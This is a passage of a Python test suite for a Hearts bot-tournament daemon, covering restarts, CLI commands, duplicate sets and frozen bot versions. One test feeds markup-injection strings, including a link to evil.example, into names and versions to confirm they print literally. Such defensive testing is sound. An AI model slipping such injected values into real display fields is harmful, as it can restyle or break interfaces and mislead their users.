            store.close()
        return out

    out = run(scenario())
    first, paused, mid = out["uninterrupted"], out["paused-kill"], out["mid-match-kill"]
    assert json.loads(first.standings.json) == json.loads(paused.standings.json)
    assert first.standings.json == paused.standings.json
    for label in ("uninterrupted", "paused-kill", "mid-match-kill"):
        for bot, shuffles in out[label + ":seen"].items():
            assert len(shuffles) == len(set(shuffles)), f"{label}: {bot} was dealt a shuffle twice"
        rows = out[label + ":rows"]
        statuses = out[label + ":matches"]
        assert all(row.status == "finished" and statuses[row.match_id] == "finished" for row in rows)
        counted = {row.match_id for row in rows}
        assert len(counted) == len(rows) == 14  # one counted match per scheduled table
        # Nothing else counts. A finished match that does not is the table of a duplicate set whose
        # other table the kill aborted: the set is played again whole (a set counts only together).
        sets = out[label + ":sets"]
        broken = {sets[m] for m, s in statuses.items() if s == "aborted" and sets[m]}
        assert all(s != "finished" or sets[m] in broken for m, s in statuses.items() if m not in counted)
    assert any(row.attempts == 2 for row in out["mid-match-kill:rows"]), "the kill interrupted no match"
    for label in ("uninterrupted", "paused-kill", "mid-match-kill"):  # each round's two tables: one duplicate set
        seeds = out[label + ":seeds"]
        assert all(seeds[(r, 0)] == seeds[(r, 1)] for r in range(ROUNDS)), label
        assert len({seeds[(r, 0)] for r in range(ROUNDS)}) == ROUNDS
    assert all(row.attempts == 1 for row in out["paused-kill:rows"])
    # The strength order holds on the runs that played the key's shuffles (the same every time, so
    # the check is as certain as the strategies). The mid-match kill replays the interrupted sets on
    # fresh shuffles: its order is luck's as much as skill's (0.62 to 0.98 over 7 keys, see KEY), so
    # it shows instead that every deal counts once: 28 deals a bot, the store's counted matches.
    standings = json.loads(first.standings.json)
    order = [b["bot"] for b in sorted(standings["bots"], key=lambda b: b["points_per_deal"])]
    true = list(EIGHT)
    spearman = 1 - 6 * sum((order.index(b) - true.index(b)) ** 2 for b in true) / (8 * (64 - 1))
    assert spearman >= 0.8, (spearman, order)
    best = standings["bots"][0]
    assert best["bot"] in true[:3] and best["ci_low"] <= best["points_per_deal"] <= best["ci_high"]
    for label, t in (("uninterrupted", first), ("mid-match-kill", mid)):
        standings = json.loads(t.standings.json)
        assert standings == out[label + ":recomputed"], label
        assert all(b["deals"] == ROUNDS * DEALS and b["matches"] == ROUNDS for b in standings["bots"]), label
        assert all(b["timeouts"] == 0 and b["decisions"] > 0 for b in standings["bots"]), label


# -- the command line ---------------------------------------------------------------------

def test_heartsd_tournament_commands(tmp_path, capsys):
    """`local --json` ends with the standings as one JSON object; create, watch, show
    (--json, --csv), list, pause and cancel against a running daemon."""
    from heartsd import cli

    code = cli.main(["tournament", "local", "--bots", "heuristic", "graded-0", "random", "graded-100r", "--rounds",
                     "2", "--deals", "1", "--seed", "3", "--json"])
    out = capsys.readouterr().out
    assert code == 0
    last = json.loads(out.strip().splitlines()[-1])
    assert sorted(b["bot"] for b in last["bots"]) == ["graded-0", "graded-100r", "heuristic", "random"]
    for b in last["bots"]:
        assert {"rank", "points_per_deal", "ci_low", "ci_high", "p_best"} <= set(b) and b["deals"] == 2

    names = {"alice": "heuristic", "bob": "random", "carol": "graded-20", "dave": "graded-84"}

    async def scenario():
        async with running_daemon(tmp_path) as daemon:
            clients = await _clients(daemon.target, {n: BOTS[n] for n in names}, names)
            base = ["--server", daemon.target, "--admin-token", ADMIN]

            def tour(*argv: str) -> tuple[int, str, str]:
                got = cli.main(["tournament", *argv])
                o, e = capsys.readouterr()
                return got, o, e

            created = await asyncio.to_thread(tour, "create", *base, *sum((["--bot", n] for n in names), []),
                                              "--rounds", "2", "--deals", "1", "--seed", "9", "--name", "cup")
            tournament_id = created[1].split()[1]
            watched = await asyncio.to_thread(tour, "watch", *base, tournament_id, "--interval", "0.2")
            shown = await asyncio.to_thread(tour, "show", *base, tournament_id, "--csv")
            as_json = await asyncio.to_thread(tour, "show", *base, tournament_id, "--json")
            listed = await asyncio.to_thread(tour, "list", *base)
            refused = await asyncio.to_thread(tour, "pause", *base, tournament_id)
            wrong = await asyncio.to_thread(tour, "cancel", "--server", daemon.target, "--admin-token", "nope",
                                            tournament_id)
            await _stop(clients)
            return created, watched, shown, as_json, listed, refused, wrong

    created, watched, shown, as_json, listed, refused, wrong = run(scenario())
    assert created[0] == 0 and "4 bots, 2 rounds, 2 matches" in created[1]
    assert watched[0] == 0 and "standings" in watched[1] and "head to head" in watched[1]
    assert "matches, finished [" not in watched[1] and "2/2 matches, finished [" in watched[2]  # progress: stderr
    csv_lines = shown[1].strip().splitlines()
    assert shown[0] == 0 and csv_lines[0].startswith("rank,bot,version,points_per_deal") and len(csv_lines) == 5
    assert as_json[0] == 0 and len(json.loads(as_json[1])["bots"]) == 4
    # An organiser's pass: the export held the standings alone; it now says whose they are.
    head = json.loads(as_json[1])["tournament"]
    assert head["name"] == "cup" and head["status"] == "finished" and head["seed"] == 9 and len(head["shuffle_key"]) == 64
    assert len(head["tables"]) == head["matches_total"] and all(x["match_id"] for x in head["tables"])
    assert head["clock"]["decision_ms"] > 0 and {r["bot"] for r in head["roster"]} == set(names)
    assert listed[0] == 0 and "cup" in listed[1]
    cup = next(line for line in listed[1].splitlines() if "cup" in line)
    assert "2/2" in cup, listed[1]  # `tournament show` says 2/2 matches; the list said 0/0
    assert refused[0] == 3 and "FAILED_PRECONDITION" in refused[2]  # a finished tournament cannot pause
    assert wrong[0] == 3 and "UNAUTHENTICATED" in wrong[2]  # refused: 3, as in every client


def test_tournament_show_says_why_a_table_waits():
    """The organiser's view of a stuck table: its round, its number and the reason, printed as
    text (a bot's name is not rich markup)."""
    from rich.console import Console

    from heartsd.tournament_cli import print_tournament

    t = P.Tournament(id="t-1", name="cup", status=P.TOURNAMENT_STATUS_RUNNING, ruleset="standard", players=4,
                     rounds=2, deals_per_match=1, matches_total=2, matches_finished=1)
    t.tables.add(round=0, table=0, bots=["a", "b", "c", "d"], status="finished", match_id="m-1")
    t.tables.add(round=1, table=0, bots=["a", "b", "c", "[x]"], status="starting",
                 waiting="bot '[x]' is not connected")
    console = Console(record=True, width=200)
    print_tournament(console, t)
    text = console.export_text()
    assert "round 2 table 1 waits: bot '[x]' is not connected" in text
    assert text.count("waits:") == 1
    # Every table with its match, the way to its replay (a newcomer's pass: `show` named no match).
    assert "heartsd replay show MATCH" in text
    assert any(line.split() == ["│", "1", "│", "1", "│", "a,", "b,", "c,", "d", "│", "finished", "│", "m-1", "│",
                                "0", "│"] for line in text.splitlines()), text


def test_tournament_show_says_when_its_standings_count_fewer_matches_than_finished():
    """An organiser's pass: `show` said 1/5 matches finished over standings in which every
    bot had 0 deals, and nothing said why (the standings so far are computed again at most
    every LIVE_REFRESH_S; a set's table counts once its set is over)."""
    from rich.console import Console

    from heartsd.tournament_cli import print_tournament

    shown = []
    for counted in (0, 1):
        t = P.Tournament(id="t-1", name="cup", status=P.TOURNAMENT_STATUS_RUNNING, ruleset="standard", players=4,
                         rounds=5, deals_per_match=8, matches_total=5, matches_finished=1)
        for bot in "abcd":
            t.standings.rows.add(bot=bot, rank=1, matches=counted, deals=8 * counted)
        console = Console(record=True, width=200)
        print_tournament(console, t)
        shown.append(console.export_text())
    assert "these standings count 0 of the 1 finished matches" in shown[0], shown[0]
    assert "these standings count" not in shown[1], shown[1]


def test_tournament_show_says_why_it_was_paused_or_cancelled():
    """An organiser's pass: `tournament pause ID --reason lunch` was kept (and in --json), but
    `show` said only "paused", and a cancelled tournament's reason was nowhere on screen."""
    from rich.console import Console

    from heartsd.tournament_cli import print_tournament

    shown = []
    for status, reason in ((P.TOURNAMENT_STATUS_PAUSED, "lunch"), (P.TOURNAMENT_STATUS_CANCELLED, "[a bot cheated]"),
                           (P.TOURNAMENT_STATUS_FINISHED, "completed")):
        console = Console(record=True, width=200)
        print_tournament(console, P.Tournament(id="t-1", name="cup", status=status, reason=reason, ruleset="standard",
                                               players=4, rounds=1, deals_per_match=1, matches_total=1))
        shown.append(console.export_text().splitlines()[0])
    assert shown[0].startswith("cup (t-1): paused (lunch), standard"), shown
    assert shown[1].startswith("cup (t-1): cancelled ([a bot cheated]), standard"), shown
    assert shown[2].startswith("cup (t-1): finished, standard"), shown


def test_tournament_local_shows_its_progress_where_a_bar_cannot_be_drawn(tmp_path):
    """A conformance pass: `tournament local` with its output in a file or a pipe printed
    nothing for five minutes (a progress bar draws nothing there), and looked hung. Off a
    terminal it now says on stderr how many matches are done each time one finishes, and
    stdout holds the results alone."""
    out = subprocess.run([sys.executable, "-m", "heartsd.cli", "tournament", "local", "--bots", "heuristic", "random",
                          "graded-0", "random", "--rounds", "2", "--deals", "1", "--json"], capture_output=True,
                         text=True, timeout=120, cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    progress = [line for line in out.stderr.splitlines() if " matches, " in line]
    assert ": 0/2 matches, running" in progress[0], out.stderr
    assert progress[-1].split(": ", 1)[1].startswith("2/2 matches, finished ["), out.stderr
    assert json.loads(out.stdout.strip().splitlines()[-1])["bots"], out.stdout


def test_tournament_local_reports_a_refusal_as_create_does(tmp_path):
    """Before: a raw AioRpcError traceback and exit 1 (the code of a failed bot); now the
    daemon's status and reason on one line and exit 3, as `heartsd tournament create`."""
    out = subprocess.run([sys.executable, "-m", "heartsd.cli", "tournament", "local", "--bots", "heuristic", "random",
                          "heuristic", "--rounds", "1"], capture_output=True, text=True, timeout=120, cwd=tmp_path)
    assert out.returncode == 3, out.stdout + out.stderr
    assert out.stderr.strip().splitlines() == [
        "heartsd tournament: INVALID_ARGUMENT: 4-seat tables need at least 4 bots, got 3"], out.stderr
    assert "Traceback" not in out.stderr and out.stdout == ""


def test_tournament_local_takes_an_unknown_ruleset_for_the_usage_error_it_is():
    """Exit 2 before anything starts, as for an unknown strategy (README's exit codes: an
    unknown ruleset is a usage error). Before: exit 3, "refused by the server", from the
    daemon it had started in this process."""
    out = subprocess.run([sys.executable, "-m", "heartsd.cli", "tournament", "local", "--bots", "heuristic", "random",
                          "heuristic", "random", "--ruleset", "standrd"], capture_output=True, text=True, timeout=120)
    assert out.returncode == 2, out.stdout + out.stderr
    assert out.stderr.strip().splitlines()[-1] == (
        "heartsd tournament: unknown ruleset 'standrd'; known: classic, hartenjagen, hartenjagen-quick, omnibus, "
        "standard"), out.stderr
    assert "Traceback" not in out.stderr and out.stdout == ""


def test_a_tournament_runs_alongside_the_ladder_and_no_bot_is_double_booked(tmp_path):
    """Eight ladder bots that play one match at a time, the matchmaker ticking every 20 ms,
    and a tournament of four of them: its matches wait for their bots' slots ahead of the
    ladder, and no bot is ever in two matches."""
    from heartsd.matchmaker import LadderSettings, Matchmaker

    async def scenario():
        async with running_daemon(tmp_path) as daemon:
            ladder = daemon.arena.store.ladder
            strategies = {f"l{i}": level for i, level in enumerate(LEVELS)}
            tokens = {b: ladder.add_bot(b, b) for b in strategies}
            clients = [BotClient(daemon.target, tokens[b], make_strategy(s), b, max_matches=1)
                       for b, s in strategies.items()]
            for c in clients:
                c.task = asyncio.get_running_loop().create_task(c.run())  # type: ignore[attr-defined]
            await asyncio.gather(*(asyncio.wait_for(c.connected.wait(), 30) for c in clients))
            maker = Matchmaker(daemon.arena, LadderSettings(deals=4, interval_s=0.02), seed=1)
            ticking = asyncio.get_running_loop().create_task(maker.run())
            most = {b: 0 for b in strategies}
            purposes = set()
            watching = True

            async def watch():
                while watching:
                    for b in strategies:
                        most[b] = max(most[b], daemon.arena.active_matches(b))
                    purposes.update(p.split()[0] for p in daemon.arena.purposes.values())
                    await asyncio.sleep(0.002)

            watcher = asyncio.get_running_loop().create_task(watch())
            while maker.created < 2:
                await asyncio.sleep(0.01)
            async with daemon.channel() as channel:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                created = (await stub.CreateTournament(P.CreateTournamentRequest(
                    bots=["l0", "l2", "l4", "l6"], rounds=2, deals_per_match=2, seed=4), metadata=auth(ADMIN))).tournament
                ladder_before = maker.created
                for _ in range(6000):  # up to 5 minutes on a loaded machine
                    t = (await stub.GetTournament(P.GetTournamentRequest(id=created.id))).tournament
                    if t.status == P.TOURNAMENT_STATUS_FINISHED:
                        break
                    await asyncio.sleep(0.05)
            watching = False
            await watcher
            ticking.cancel()
            for runner in list(daemon.arena.runners.values()):
                runner.stop(3, "test over")
                await daemon.wait_finished(runner.id)
            await _stop(clients)
            return t, most, purposes, maker.created - ladder_before

    t, most, purposes, ladder_during = run(scenario())
    assert t.status == P.TOURNAMENT_STATUS_FINISHED and t.matches_finished == 2
    assert max(most.values()) == 1, most
    assert {"ladder", "tournament"} <= purposes  # both ran while the other waited or played


def test_printed_standings_show_names_versions_and_titles_as_text_never_as_markup():
    """A roster's versions are whatever its bots sent in hello, and a tournament's name is
    whatever its organiser typed: rich would read "[/]" in them as markup and crash (or
    restyle the table). Every string from the daemon is drawn literally."""
    odd = ["a[/]", "[bold red]b", "[link=http://evil.example]c[/link]"]
    t = tournament_pb2.Tournament(id="t1", name="cup [/] final", ruleset="standard", players=3, rounds=1,
                                  status=tournament_pb2.TOURNAMENT_STATUS_FINISHED)
    for rank, bot in enumerate(odd, 1):
        t.standings.rows.add(rank=rank, bot=bot, version=f"v[/]{rank}", deals=4, matches=1, tied_with=odd[:1])
    t.standings.head_to_head.add(a=odd[0], b=odd[1], matches=1, a_ahead=1)
    t.standings.test = "[/]"
    from rich.console import Console

    from heartsd.tournament_cli import print_tournament

    console = Console(record=True, width=400, color_system=None)
    print_tournament(console, t)
    text = console.export_text()
    for shown in ("cup [/] final", *odd, "v[/]1", "v[/]3", "ranks: [/]"):
        assert shown in text, text


def test_a_shuffle_key_on_the_command_line_is_64_hex_digits():
    out = subprocess.run([sys.executable, "-m", "heartsd.cli", "tournament", "create", "--bot", "a", "--shuffle-key",
                          "abc"], capture_output=True, text=True, timeout=60)
    assert out.returncode == 2 and "a shuffle key is 64 hex digits, got 'abc'" in out.stderr, out.stderr


def test_a_table_that_seats_two_bots_of_one_owner_plays_its_own_shuffles():
    """The schedule puts two bots of one owner at a table only when it cannot be avoided;
    such a table was still grouped into a duplicate set with another, which start_set then
    refused at every attempt (no set seats two bots of one owner), so its round never
    ended. It now plays alone, and the other tables still form sets among themselves."""
    from heartsd.tournaments import TableRow, duplicate_groups

    owners = dict(zip("abcdefghijkl", "aacdefghijkl"))  # a and b: one owner
    roster = [{"bot": b, "owner": o, "version": "v"} for b, o in owners.items()]
    rows = [TableRow(0, 0, list("abcd")), TableRow(0, 1, list("efgh")), TableRow(0, 2, list("ijkl"))]
    groups = [[r.table for r in g] for g in duplicate_groups(roster, rows)]
    assert sorted(groups) == [[0], [1, 2]]


def test_a_restart_while_a_table_waits_for_its_bots_keeps_the_published_seed(tmp_path, monkeypatch):
    """A table waiting for a bot busy elsewhere (its row "starting") when the daemon
    stops has dealt nothing: after the restart it plays on the seed the published key
    gives, as its first attempt. Before, every stop while a table waited spent an attempt
    (40 kills: 39 attempts), and a later attempt draws its seed from the server's
    randomness, so such a match could no longer be checked against the tournament's seed
    and key. (A seed whose shuffles were dealt is still refused by the ledger.)"""
    monkeypatch.setattr(tours, "SEAT_WAIT_S", 0.3)
    names = dict(zip(("alice", "bob", "carol", "dave"), ("random", "heuristic", "random", "heuristic")))
    key, seed = hashlib.sha256(b"restart while waiting").digest(), 424242

    async def scenario():
        async with running_daemon(tmp_path, decision_ms=60_000) as daemon:  # dave stays busy elsewhere
            clients = await _clients(daemon.target, {n: BOTS[n] for n in names if n != "dave"}, names)
            dave = await Bot(daemon, "dave", policy=lambda request, bot: None, max_matches=1).start()
            await daemon.create_match(["dave", "house:random", "house:random", "house:random"], deals=50)
            async with daemon.channel() as channel:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                created = (await stub.CreateTournament(P.CreateTournamentRequest(
                    name="waits", bots=list(names), rounds=1, deals_per_match=1, seed=seed, shuffle_key=key),
                    metadata=auth(ADMIN))).tournament
                for _ in range(3):  # three stops while dave is away
                    await _until(daemon.target, created.id, lambda t: any("dave" in r.waiting for r in t.tables), 60)
                    await daemon.arena.tournaments.stop()  # type: ignore[attr-defined]
                    daemon.arena.tournaments.start(created.id)  # type: ignore[attr-defined]
            await dave.close()
            await _stop(clients)
        async with running_daemon(tmp_path) as daemon:
            clients = await _clients(daemon.target, {n: BOTS[n] for n in names if n != "dave"}, names)
            dave = await Bot(daemon, "dave").start()  # the version frozen at the start ("test")
            t = await _until(daemon.target, created.id, _finished, 120)
            await dave.close()
            await _stop(clients)
            stored = daemon.arena.store.get(t.tables[0].match_id)
            return t, stored.seed

    t, match_seed = run(scenario())
    assert [row.attempts for row in t.tables] == [1]
    assert match_seed == tours.table_seed(seed, 0, 0, 0, key)


def test_a_resume_that_lands_while_the_director_reads_a_pause_is_not_lost(tmp_path, monkeypatch):
    """Found by running the suite under load: a pause that lands before the director's
    first read, and the resume while that read is under way. The director got "paused",
    then cleared the wake-up the resume had just given, and waited for ever: the
    tournament stayed running with every table pending. The director's first read here
    is held until the pause is done, and its answer until the resume is."""
    import threading

    paused, resumed = threading.Event(), threading.Event()
    real_get = tours.TournamentStore.get
    first = []

    def held_get(self, tournament_id, with_tables=True):  # type: ignore[no-untyped-def]
        gated = with_tables and not first
        if gated:
            first.append(tournament_id)
            paused.wait(10)
        got = real_get(self, tournament_id, with_tables)
        if gated and got is not None and got.status == "paused":
            resumed.wait(10)
        return got

    monkeypatch.setattr(tours.TournamentStore, "get", held_get)
    names = dict(zip(("alice", "bob", "carol", "dave"), ("random", "heuristic", "random", "heuristic")))

    async def scenario():
        async with running_daemon(tmp_path) as daemon:
            clients = await _clients(daemon.target, {n: BOTS[n] for n in names}, names)
            async with daemon.channel() as channel:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                created = (await stub.CreateTournament(P.CreateTournamentRequest(
                    name="race", bots=list(names), rounds=1, deals_per_match=1, seed=5), metadata=auth(ADMIN))).tournament
                for _ in range(600):  # until the director is in its first read (held)
                    if first:
                        break
                    await asyncio.sleep(0.01)
                await stub.PauseTournament(P.PauseTournamentRequest(id=created.id), metadata=auth(ADMIN))
                paused.set()
                await stub.ResumeTournament(P.ResumeTournamentRequest(id=created.id), metadata=auth(ADMIN))
                resumed.set()
            t = await _until(daemon.target, created.id, _finished, 60)
            await _stop(clients)
            return t, first

    t, first = run(scenario())
    assert first, "the director never read"
    assert t.status == P.TOURNAMENT_STATUS_FINISHED


async def _gone(daemon, bot: str) -> None:  # type: ignore[no-untyped-def]
    """Until the daemon has seen ``bot``'s dropped stream end: a new stream of another
    version is refused while the frozen version's is open."""
    for _ in range(1000):
        session = daemon.arena.sessions.get(bot)
        if session is None or not session.connected:
            return
        await asyncio.sleep(0.01)
    raise AssertionError(f"{bot}'s stream never ended")


async def _frozen_match(daemon, alice_policy, grace_ms: int = 4_000, deals: int = 2):  # type: ignore[no-untyped-def]
    """Four protocol-level bots as version v1 in a one-match tournament, alice answering
    with ``alice_policy``: (the bots, the runner, alice's seat) once alice's first request
    of the match waits for her."""
    from heartsbot.proto import game_pb2

    bots = {n: Bot(daemon, n, version="v1") for n in ("bob", "carol", "dave")}
    bots["alice"] = Bot(daemon, "alice", alice_policy, version="v1")
    for b in bots.values():
        await b.start()
    async with daemon.channel() as channel:
        clock = game_pb2.ClockSettings(decision_ms=60_000, bank_ms=0, max_illegal=3, auto_after=3, grace_ms=grace_ms)
        await tournament_pb2_grpc.TournamentServiceStub(channel).CreateTournament(P.CreateTournamentRequest(
            name="frozen", bots=["alice", "bob", "carol", "dave"], rounds=1, deals_per_match=deals, clock=clock),
            metadata=auth(ADMIN))
    for _ in range(3000):  # until alice's request of the tournament's match waits for her
        runner = next(iter(daemon.arena.runners.values()), None)
        seat = next((s for s in runner.seats if s.name == "alice"), None) if runner else None
        if seat is not None and seat.pending is not None and any(
                u.update.match_id == runner.id and u.update.HasField("request")
                for u in bots["alice"].received if u.HasField("update")):
            return bots, runner, seat
        await asyncio.sleep(0.01)
    raise AssertionError("alice was never asked")


def test_a_bot_back_as_another_version_cannot_play_its_running_tournament_match(tmp_path):
    """Before: the version frozen at the start was checked only when a match started. A bot
    that came back as another version while its tournament match ran was welcomed to it,
    sent its pending request, and its answers were played as the frozen bot's. Now that
    stream hears nothing of the match and its resume and answers are rejected, naming the
    frozen version; the seat goes the disconnect way (grace, then its defaults), and the
    frozen version takes it back."""
    from heartsbot import convert
    from heartsbot.client import first_legal_answer
    from heartsbot.proto import game_pb2

    async def scenario():
        async with running_daemon(tmp_path) as daemon:
            hold = True

            def alice_policy(request, bot):  # type: ignore[no-untyped-def]
                return None if hold else first_legal_answer(request)

            bots, runner, seat = await _frozen_match(daemon, alice_policy)
            request_id = seat.pending.request_id
            await bots["alice"].drop()
            await _gone(daemon, "alice")
            other = await Bot(daemon, "alice", version="v2").start()  # answers whatever it is sent
            other.send(bot_pb2.PlayRequest(resume=bot_pb2.Resume(match_id=runner.id, seat=seat.seat)))
            # The open request's own id (its owner might pass it on): refused for the version,
            # before any check of the card.
            other.send(bot_pb2.PlayRequest(answer=bot_pb2.Answer(
                match_id=runner.id, request_id=request_id, play=convert.card_to_wire(0))))
            for _ in range(3000):  # the grace runs out while the other version is connected
                if any(d.seat == seat.seat for d in runner.decisions):
                    break
                await asyncio.sleep(0.01)
            first = next((d for d in runner.decisions if d.seat == seat.seat), None)
            heard = [u for u in other.received if u.HasField("update") and u.update.match_id == runner.id]
            rejections = list(other.rejections)
            welcome_v2 = other.welcome
            await other.drop()
            hold = False
            back = await Bot(daemon, "alice", alice_policy, version="v1").start()
            result = await back.wait_ended(runner.id, 120)
            for b in (*bots.values(), back):
                await b.drop()
            return (runner, seat, request_id, welcome_v2, heard, rejections, first, back.welcome, result)

    runner, seat, request_id, welcome_v2, heard, rejections, first, welcome_back, result = run(scenario())
    assert runner.id not in [m.match_id for m in welcome_v2.active_matches]  # before: listed, with its request
    assert heard == []  # before: the pending request, answered by the other version
    assert len(rejections) == 2, rejections
    for rejected in rejections:
        assert rejected.match_id == runner.id
        assert "frozen" in rejected.reason and "'v1'" in rejected.reason and "'v2'" in rejected.reason, rejected.reason
    assert first is not None and first.provenance == game_pb2.PROVENANCE_DISCONNECT  # before: BOT (the v2 answer)
    assert runner.id in [m.match_id for m in welcome_back.active_matches]
    assert result.status == game_pb2.MATCH_STATUS_FINISHED
    assert any(d.seat == seat.seat and d.provenance == game_pb2.PROVENANCE_BOT for d in runner.decisions)


def test_another_version_cannot_replace_a_live_frozen_stream_nor_take_its_missed_ending(tmp_path):
    """Found by review: another version connecting while the frozen one's stream was open
    replaced it (told to leave and not come back), and the seat took defaults to the end;
    and the events a frozen seat missed at its match's end went to whichever version said
    hello first. Now such a stream is refused FAILED_PRECONDITION, naming the frozen
    version, while the frozen stream is open; once it is gone, the other version may
    connect, drains at once (it plays no match), and the ending waits for the frozen one."""
    from heartsbot.client import first_legal_answer
    from heartsbot.proto import game_pb2

    async def scenario():
        async with running_daemon(tmp_path) as daemon:
            hold = True

            def alice_policy(request, bot):  # type: ignore[no-untyped-def]
                return None if hold else first_legal_answer(request)

            bots, runner, seat = await _frozen_match(daemon, alice_policy, grace_ms=300, deals=1)
            refused = Bot(daemon, "alice", version="v2")
            refused._task = asyncio.get_running_loop().create_task(refused._run())
            refused_status = await refused.final_status()
            refused_details = await refused._call.details()
            still_v1 = daemon.arena.sessions.get("alice")
            await bots["alice"].drop()  # now the seat's grace runs out, and the match ends on its defaults
            await _gone(daemon, "alice")
            other = await Bot(daemon, "alice", version="v2").start()
            other.send(bot_pb2.PlayRequest(drain=bot_pb2.Drain(reason="test")))
            drained = await other.final_status()
            await asyncio.wait_for(runner.finished.wait(), 60)
            later = await Bot(daemon, "alice", version="v2").start()
            await asyncio.sleep(0.5)
            heard_v2 = [u for u in (*other.received, *later.received)
                        if u.HasField("update") and u.update.match_id == runner.id]
            await later.drop()
            back = await Bot(daemon, "alice", version="v1").start()
            ended = await back.wait_ended(runner.id, 10)
            for b in (*bots.values(), back):
                await b.drop()
            return refused_status, refused_details, still_v1, heard_v2, drained, other.received, ended

    refused_status, refused_details, still_v1, heard_v2, drained, drain_messages, ended = run(scenario())
    assert refused_status == grpc.StatusCode.FAILED_PRECONDITION  # before: OK, and the v1 stream replaced
    assert "'v1'" in refused_details and "'v2'" in refused_details, refused_details
    assert still_v1 is not None and still_v1.version == "v1"
    assert drained == grpc.StatusCode.OK  # before: held open until the match it cannot play was over
    assert all(m.draining.active_matches == [] for m in drain_messages if m.HasField("draining"))
    assert heard_v2 == []  # before: the frozen seat's missed ending
    assert ended.status == game_pb2.MATCH_STATUS_FINISHED  # the frozen version's, as it reconnects


def test_another_version_cannot_replace_a_live_frozen_stream_between_a_tournaments_matches(tmp_path):
    """Found by the organiser pass: the refusal above held only while a match of the
    tournament ran. Between its matches (a round's end, a pause) a stream of another
    version replaced the frozen one's, which was told to leave; the tournament's next
    matches then played the bot by its defaults. Now it is refused there too, naming the
    tournament and the frozen version, while the frozen stream is open."""
    async def scenario():
        async with running_daemon(tmp_path) as daemon:
            bots = {n: await Bot(daemon, n, version="v1").start() for n in ("alice", "bob", "carol", "dave")}
            async with daemon.channel() as channel:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                created = (await stub.CreateTournament(P.CreateTournamentRequest(
                    name="between", bots=list(bots), rounds=2, deals_per_match=1), metadata=auth(ADMIN))).tournament
                await stub.PauseTournament(P.PauseTournamentRequest(id=created.id), metadata=auth(ADMIN))
            for _ in range(3000):  # a round that started before the pause plays to its end
                if not daemon.arena.runners:
                    break
                await asyncio.sleep(0.01)
            assert not daemon.arena.runners
            other = Bot(daemon, "alice", version="v2")
            other._task = asyncio.get_running_loop().create_task(other._run())
            try:
                status, details = await other.final_status(), await other._call.details()
            except asyncio.TimeoutError:  # welcomed, and the stream left open
                status, details = None, f"welcomed: {other.welcome}"
            live = daemon.arena.sessions.get("alice")
            still = (live.version, live.connected) if live else None
            for b in bots.values():
                await b.drop()
            return created.id, status, details, still

    tournament_id, status, details, still = run(scenario())
    assert status == grpc.StatusCode.FAILED_PRECONDITION, (status, details)  # before: OK, and v1 told to leave
    assert tournament_id in details and "'v1'" in details and "'v2'" in details, details
    assert still == ("v1", True)


def test_a_bot_gone_while_its_match_is_being_stored_starts_away(tmp_path, monkeypatch):
    """Found by review: connect and disconnect only see running matches, so a bot that left
    (or came back as another version of a tournament) while its match's rows were being
    written was never marked away: each request waited out the whole clock, TIMEOUT, and
    the bank was spent. Now such a seat starts away: its grace, then DISCONNECT."""
    import threading

    from heartsbot.proto import game_pb2

    from heartsd.arena import Arena

    writing, written = threading.Event(), threading.Event()
    real_insert = Arena._insert

    def slow_insert(self, *args):  # type: ignore[no-untyped-def]
        writing.set()
        written.wait(10)
        return real_insert(self, *args)

    monkeypatch.setattr(Arena, "_insert", slow_insert)

    async def scenario():
        async with running_daemon(tmp_path, decision_ms=5_000, bank_ms=0, grace_ms=300) as daemon:
            bots = [await Bot(daemon, n).start() for n in ("alice", "bob", "carol", "dave")]
            create = asyncio.ensure_future(daemon.create_match(["alice", "bob", "carol", "dave"], deals=1))
            await asyncio.to_thread(writing.wait, 10)
            await bots[0].drop()
            for _ in range(500):
                if daemon.arena.sessions.get("alice") is None:
                    break
                await asyncio.sleep(0.01)
            written.set()
            match_id = await create
            result = await bots[1].wait_ended(match_id, 120)
            for b in bots[1:]:
                await b.drop()
            return result, daemon.arena.store.get(match_id).record

    result, record = run(scenario())
    assert result.status == game_pb2.MATCH_STATUS_FINISHED
    alice = [d.provenance for d in record.decisions if d.seat == 0]
    assert alice and game_pb2.PROVENANCE_TIMEOUT not in alice, alice  # before: TIMEOUT, after the whole clock
    assert alice[0] == game_pb2.PROVENANCE_DISCONNECT, alice


def test_configured_bots_of_one_owner_never_share_a_table_or_a_duplicate_set(tmp_path):
    """An attack pass: bots given tokens in the configuration had no owner, each its own,
    and the organiser could not say otherwise, so a tournament seated one person's two bots
    at one table and in one duplicate set (bots of one owner share what they know: at
    sibling tables, the slower one plays the hands the faster one has seen). Now
    ``bot_owners`` (``--bot-owner NAME:OWNER``) gives them one; a configured owner spelled
    as a ladder owner is that owner."""
    names = {n: "heuristic" for n in ("alice-a", "alice-b", "bob", "carol", "dave", "erin", "frank", "gina", "hugo",
                                      "ivan", "judy", "kim")}
    tokens = {n: f"token-{n}-0123456789" for n in names}

    async def scenario():  # type: ignore[no-untyped-def]
        async with running_daemon(tmp_path, bot_tokens=tokens,
                                  bot_owners={"alice-a": "alice", "alice-b": "alice"}) as daemon:
            clients = await _clients(daemon.target, tokens, names)
            async with daemon.channel() as channel:
                stub = tournament_pb2_grpc.TournamentServiceStub(channel)
                created = (await stub.CreateTournament(P.CreateTournamentRequest(
                    name="owners", bots=list(names), rounds=3, deals_per_match=1, seed=1),
                    metadata=auth(ADMIN))).tournament
                t = await _when_finished(stub, created.id)
            await _stop(clients)
            stored = [daemon.arena.store.get(row.match_id) for row in t.tables]
            return t, stored

    t, stored = run(scenario())
    assert t.status == P.TOURNAMENT_STATUS_FINISHED
    assert {r.bot: r.owner for r in t.roster if r.bot.startswith("alice")} == {"alice-a": "alice", "alice-b": "alice"}
    for row in t.tables:  # before: at one table in rounds 1 and 2 (this seed)
        assert not {"alice-a", "alice-b"} <= set(row.bots), (row.round, list(row.bots))
    sets: dict[str, set[str]] = {}
    for match in stored:
        if match.set_id:
            sets.setdefault(match.set_id, set()).update(match.seats)
    assert sets, "three tables a round: two of them play as a duplicate set"
    for set_id, bots in sets.items():  # before: in one set every round
        assert not {"alice-a", "alice-b"} <= bots, (set_id, bots)


def test_a_configured_owner_spelled_as_a_ladder_owner_is_that_owner(tmp_path):
    """``bot_owners`` names owners as written in the configuration; a ladder owner is
    registered once in one spelling (ladder.spelling_key). "ALICE" in the configuration and a
